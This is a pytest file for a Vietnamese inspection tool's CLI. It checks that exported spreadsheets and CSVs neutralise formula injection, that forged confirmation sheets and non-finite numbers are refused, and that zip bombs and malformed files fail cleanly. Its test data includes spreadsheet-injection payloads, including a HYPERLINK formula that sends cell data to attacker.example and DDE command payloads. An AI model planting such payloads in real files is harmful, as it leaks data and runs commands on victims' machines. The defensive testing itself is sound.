"""Issue 12 items 4, 5 and 6: formula injection in what kiemtra writes, confirmation sheets that lie
about their agency or year, and numbers that are not numbers.

Everything runs through the CLI on a copy of the shipped config, as an inspector runs it.
"""

from __future__ import annotations

import csv
import math
from pathlib import Path

import pytest
import yaml
from hardening_helpers import db_digest
from openpyxl import load_workbook

from evidence import surveys
from evidence.store import Store
from office.xlsxform import csv_cell
from tests.scoring_helpers import FILLED, cli, config_dir, fill  # noqa: F401  (config_dir is a fixture)

HOSTILE = ('=HYPERLINK("http://attacker.example/?d="&A1,"xem")', '=WEBSERVICE("http://attacker.example/")',
           "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")


def hostile_config(config_dir: Path) -> Path:
    """bac-ninh and bo-tp renamed with formulas, and a service of bac-ninh too."""
    for agency, name in (("bac-ninh", HOSTILE[0]), ("bo-tp", HOSTILE[2])):
        path = config_dir / "agencies" / f"{agency}.yaml"
        document = yaml.safe_load(path.read_text(encoding="utf-8"))
        document["name"] = name
        for service, service_name in zip(document["services"], HOSTILE[1:], strict=False):
            service["name"] = service_name
        path.write_text(yaml.safe_dump(document, allow_unicode=True), encoding="utf-8")
    return config_dir


def written_files(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.suffix in (".xlsx", ".csv"))


def formulas_in(path: Path) -> list[str]:
    """Every cell of an XLSX that is a formula, or of a CSV that a spreadsheet would read as one."""
    found = []
    if path.suffix == ".xlsx":
        book = load_workbook(path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith("=")
                                                 and cell.data_type != "s"):
                        found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
    else:
        with path.open(encoding="utf-8-sig", newline="") as stream:
            for number, row in enumerate(csv.reader(stream), start=1):
                found += [f"{number}: {c!r}" for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r") and csv_cell(c) != c]
    return found


def test_no_cell_of_any_written_xlsx_or_csv_is_a_formula(config_dir, tmp_path):
    hostile_config(config_dir)
    out = tmp_path / "bao-cao"
    form = out / "phieu-3A.xlsx"
    assert cli(config_dir, "survey", "template", "--group", "tinh", "--agency", HOSTILE[4], "-o", str(form)) == 0
    assert cli(config_dir, "report", "--year", "2024", "-o", str(out)) == 0
    files = written_files(out)
    assert {p.suffix for p in files} == {".xlsx", ".csv"} and len(files) >= 5
    assert {p: formulas_in(p) for p in files if formulas_in(p)} == {}
    # The names are all there, as text: nothing lost, nothing live.
    sheet = load_workbook(out / "xac-nhan" / "xac-nhan-bac-ninh-2024.xlsx")["Xác nhận"]
    texts = {c.value for row in sheet.iter_rows() for c in row}
    assert any(HOSTILE[0] in str(t) for t in texts) and HOSTILE[1] in texts
    rows = list(csv.reader((out / "ket-qua-2024.csv").open(encoding="utf-8-sig")))
    assert ["'" + HOSTILE[2]] == [c for r in rows for c in r if HOSTILE[2] in c]


@pytest.mark.parametrize("value,escaped", [("=1+1", "'=1+1"), ("+1", "+1"), ("+x", "'+x"), ("-x", "'-x"), ("@A", "'@A"),
                                           ("\tx", "'\tx"), ("\rx", "'\rx"), ("-2", "-2"), ("2,5", "2,5"),
                                           ("-inf", "'-inf"), ("abc", "abc"), (None, "")])
def test_csv_cells_are_escaped_the_owasp_way(value, escaped):
    assert csv_cell(value) == escaped


# --- confirmation sheets -------------------------------------------------------------------------

@pytest.fixture()
def issued(config_dir, tmp_path):
    out = tmp_path / "bao-cao"
    assert cli(config_dir, "report", "--year", "2024", "-o", str(out)) == 0
    return out / "xac-nhan" / "xac-nhan-bac-ninh-2024.xlsx"


def edit(path: Path, change) -> Path:
    book = load_workbook(path)
    sheet = book["Xác nhận"]
    sheet.cell(6, 7, "không đồng ý")
    sheet.cell(6, 8, "Số liệu sai")
    change(book, sheet)
    book.save(path)
    return path


def refused(config_dir, path, capsys, words: str) -> None:
    db = path.parents[2] / "var" / "kiemtra.db"
    before = db_digest(db)
    assert cli(config_dir, "confirm", "import", str(path)) == 2
    err = capsys.readouterr().err
    assert words in err and len(err.strip().splitlines()) == 1, err
    assert db_digest(db) == before  # nothing recorded


def test_an_untouched_sheet_is_accepted(config_dir, issued):
    assert cli(config_dir, "confirm", "import", str(edit(issued, lambda book, sheet: None))) == 0


@pytest.mark.parametrize("how,words", [
    ("agency", "phiếu được phát cho cơ quan 'bac-ninh'"),
    ("year-1900", "phiếu được phát cho năm 2024"),
    ("year-text", "ô năm ghi 'hai nghìn'"),
    ("edited-key", "không có trong phiếu đã phát"),
    ("unknown-key", "không có trong phiếu đã phát"),
    ("duplicate-key", "lặp lại"),
    ("no-id", "không có mã phiếu"),
    ("forged-id", "không phải của phiếu nào đã phát"),
])
def test_a_sheet_that_lies_about_what_it_was_issued_for_is_refused(how, words, config_dir, issued, capsys):
    def change(book, sheet):
        if how == "agency":
            sheet["C2"] = "thua-thien-hue"
        elif how == "year-1900":
            sheet["C3"] = 1900
        elif how == "year-text":
            sheet["C3"] = "hai nghìn"
        elif how == "edited-key":
            sheet["A6"] = "service:thua-thien-hue-001"
        elif how == "unknown-key":
            sheet.cell(sheet.max_row + 1, 1, "criterion:khong-co")
            sheet.cell(sheet.max_row, 7, "đồng ý")
        elif how == "duplicate-key":
            sheet.cell(sheet.max_row + 1, 1, sheet["A6"].value)
            sheet.cell(sheet.max_row, 7, "đồng ý")
        elif how == "no-id":
            del book["kiemtra"]
        elif how == "forged-id":
            book["kiemtra"]["B1"] = "0" * 32

    refused(config_dir, edit(issued, change), capsys, words)


def test_a_sheet_issued_for_another_agency_cannot_be_relabelled(config_dir, issued, capsys):
    """Thừa Thiên Huế's sheet with bac-ninh's id copied in: the id decides, and the cells must agree."""
    other = issued.with_name("xac-nhan-thua-thien-hue-2024.xlsx")
    bac_ninh_id = load_workbook(issued)["kiemtra"]["B1"].value
    refused(config_dir, edit(other, lambda book, sheet: book["kiemtra"].__setitem__("B1", bac_ninh_id)), capsys,
            "phiếu được phát cho cơ quan 'bac-ninh'")


# --- numbers -------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["inf", "1e999", "nan", "-inf", "Infinity"])
def test_a_survey_cell_that_is_not_a_finite_number_is_refused_with_its_cell(value, config_dir, tmp_path, capsys):
    form = tmp_path / "phieu.xlsx"
    assert cli(config_dir, "survey", "template", "--group", "tinh", "-o", str(form)) == 0
    fill(form, {**FILLED, "c1_cbccvc": value}, agency="bac-ninh", year=2024)
    assert cli(config_dir, "survey", "import", str(form)) == 2
    err = capsys.readouterr().err
    assert "Phiếu 3A!F7" in err and "không phải số hữu hạn" in err, err


def test_a_duplicate_survey_row_is_refused_with_its_cell(config_dir, tmp_path, capsys):
    form = tmp_path / "phieu.xlsx"
    assert cli(config_dir, "survey", "template", "--group", "tinh", "-o", str(form)) == 0
    fill(form, FILLED, agency="bac-ninh", year=2024)
    book = load_workbook(form)
    sheet = book.worksheets[0]
    last = sheet.max_row + 1
    sheet.cell(last, 1, "c1_cbccvc")
    sheet.cell(last, 6, 5)
    book.save(form)
    assert cli(config_dir, "survey", "import", str(form)) == 2
    err = capsys.readouterr().err
    assert f"Phiếu 3A!A{last}" in err and "lặp lại (đã có ở ô A7)" in err, err


@pytest.mark.parametrize("score", ["inf", "1e999", "nan"])
def test_a_review_score_that_is_not_a_finite_number_is_refused_with_its_line(score, config_dir, tmp_path, capsys):
    path = tmp_path / "diem.csv"
    path.write_text(f"agency_id,criterion_id,score\nbac-ninh,c3-intro,1\nbac-ninh,c3-news,{score}\n", encoding="utf-8")
    assert cli(config_dir, "review", "import", str(path), "--inspector", "b") == 2
    err = capsys.readouterr().err
    assert f"{path}:3: score: điểm '{score}' không phải số hữu hạn" in err, err


def test_a_duplicate_review_row_is_refused_with_its_line(config_dir, tmp_path, capsys):
    path = tmp_path / "diem.csv"
    path.write_text("agency_id,criterion_id,score\nbac-ninh,c3-intro,1\nbac-ninh,c3-intro,2\n", encoding="utf-8")
    assert cli(config_dir, "review", "import", str(path), "--inspector", "b") == 2
    err = capsys.readouterr().err
    assert f"{path}:3" in err and "lặp lại (đã có ở dòng 2)" in err, err


def test_scoring_refuses_a_non_finite_figure_already_stored(config_dir, tmp_path, capsys):
    """A NaN in the store (kept before this check existed) stops the report with one line, not a traceback."""
    with Store(tmp_path / "var") as store:
        surveys.save_survey(store, 2024, "bac-ninh", [{"figure_id": "c1_cbccvc", "value": math.inf, "note": "",
                                                       "source_file": "cu.xlsx", "sheet": "Phiếu 3A", "cell": "F7"}])
    assert cli(config_dir, "report", "--year", "2024", "-o", str(tmp_path / "bao-cao")) == 2
    err = capsys.readouterr().err
    assert "c1_cbccvc" in err and "không hữu hạn" in err and len(err.strip().splitlines()) == 1, err


def test_an_xlsx_zip_bomb_is_refused_before_it_is_inflated(config_dir, tmp_path, capsys):
    import zipfile

    form = tmp_path / "phieu.xlsx"
    assert cli(config_dir, "survey", "template", "--group", "tinh", "-o", str(form)) == 0
    with zipfile.ZipFile(form) as old:
        parts = {n: old.read(n) for n in old.namelist()}
    sheet = next(n for n in parts if n.startswith("xl/worksheets/"))
    parts[sheet] = parts[sheet].replace(b"</sheetData>", b"</sheetData>" + b" " * (64 << 20))
    with zipfile.ZipFile(form, "w", compression=zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)
    for command in (("survey", "import"), ("confirm", "import"), ("catalogue", "import")):
        assert cli(config_dir, *command, str(form)) == 2
        err = capsys.readouterr().err
        assert "bom zip" in err and len(err.strip().splitlines()) == 1, err


def _truncated_sheet_xlsx(path: Path, header: list[str], rows: list[list[object]]) -> Path:
    """A well-formed zip whose sheet XML stops half way: read-only openpyxl only notices while iterating."""
    import zipfile

    from openpyxl import Workbook

    book = Workbook()
    book.active.append(header)
    for row in rows:
        book.active.append(row)
    book.save(path)
    with zipfile.ZipFile(path) as old:
        parts = {n: old.read(n) for n in old.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = parts[sheet][: len(parts[sheet]) * 2 // 3]
    with zipfile.ZipFile(path, "w") as new:
        for name, data in parts.items():
            new.writestr(name, data)
    return path


@pytest.mark.parametrize("case", ["catalogue-huge-field", "catalogue-deep-json", "catalogue-non-utf8",
                                  "catalogue-lazy-garbage-xlsx", "review-huge-field", "review-non-utf8",
                                  "review-lazy-garbage-xlsx", "review-garbage-xlsx", "survey-garbage-xlsx",
                                  "confirm-garbage-xlsx"])
def test_item_9_malformed_inputs_are_one_line_never_a_traceback(case, config_dir, tmp_path, capsys):
    command, _, kind = case.partition("-")
    suffix = ".json" if "json" in kind else ".xlsx" if "xlsx" in kind else ".csv"
    path = tmp_path / f"dau-vao{suffix}"
    header = ["ma_thu_tuc", "ten_thu_tuc"] if command == "catalogue" else ["agency_id", "criterion_id", "score"]
    if kind == "huge-field":
        path.write_text(",".join(header) + "\n1.000001,\"" + "A" * 300_000 + "\"" + (",1" if command == "review" else "")
                        + "\n", encoding="utf-8")
    elif kind == "deep-json":
        path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    elif kind == "non-utf8":
        path.write_bytes(",".join(header).encode() + b"\n1.000001,Th\xf4 t\xe5c\n")
    elif kind == "lazy-garbage-xlsx":
        _truncated_sheet_xlsx(path, header, [[f"1.{i:06d}", f"Thủ tục {i}", 1] for i in range(400)])
    else:
        path.write_bytes(b"PK\x03\x04" + bytes(range(256)) * 8)
    args = {"catalogue": ("catalogue", "import"), "review": ("review", "import", "--inspector", "b"),
            "survey": ("survey", "import"), "confirm": ("confirm", "import")}[command]
    assert cli(config_dir, *args[:2], str(path), *args[2:]) == 2
    err = capsys.readouterr().err
    assert err.startswith("lỗi ") and len(err.strip().splitlines()) == 1 and str(path) in err, err
